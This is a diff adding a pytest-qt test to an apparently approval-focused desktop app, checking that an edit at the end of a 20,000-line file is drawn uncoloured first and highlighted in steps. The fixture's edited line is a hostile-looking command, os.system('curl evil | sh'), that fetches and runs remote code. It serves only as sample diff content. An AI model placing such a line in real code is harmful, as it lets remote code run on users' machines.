@@ -127,3 +127,32 @@ def test_a_long_line_in_a_long_diff_is_cut_and_opens_whole(qtbot, view: PreviewV
     assert window.view.toPlainText() == "x" * 299_999 + "y<U+202E>"
     assert "new line 2501" in window.windowTitle()
     window.close()
+
+
+def test_a_change_at_the_end_of_a_long_file_paints_uncoloured_first(qtbot, view: PreviewView, monkeypatch) -> None:
+    """The lexer would go from line 1 to the change before the first paint: it does not; the steps colour it."""
+    from desktop_approver.gui import diff_rendering
+    from desktop_approver.render.diff_html import highlighter_for, render_diff_html
+    from desktop_approver.render.diffs import from_preview
+
+    monkeypatch.setattr(diff_rendering, "FIRST_LEX_BUDGET_S", 0.0)  # the budget spent at once, whatever the machine
+    old = "".join(f"value_{n} = compute({n})\n" for n in range(20_000))
+    new = old.replace("value_19999 = compute(19999)", "value_19999 = os.system('curl evil | sh')")
+    preview = {"kind": "diff", "path": "big.py", "old": old, "new": new}
+    view.set_content("Edit", {"file_path": "big.py"}, preview)
+    (diff,) = view._files
+    assert highlighter_for(diff).lines_tokenised < 5_000  # a batch of tokens, not the 20,000 lines before the change
+    assert not any(segment.final for segment in view.rendering._segments)  # drawn uncoloured: coloured later
+    assert "os.system" in view.diff_browser.toPlainText()
+    qtbot.waitUntil(lambda: not view.is_rendering(), timeout=60_000)
+    assert all(segment.final for segment in view.rendering._segments)
+    (whole,) = from_preview(preview)
+    assert view.diff_browser.toPlainText().strip() == _plain(render_diff_html(whole)).strip()
+
+
+def _plain(page: str) -> str:
+    from PySide6.QtGui import QTextDocument
+
+    document = QTextDocument()
+    document.setHtml(page)
+    return document.toPlainText()
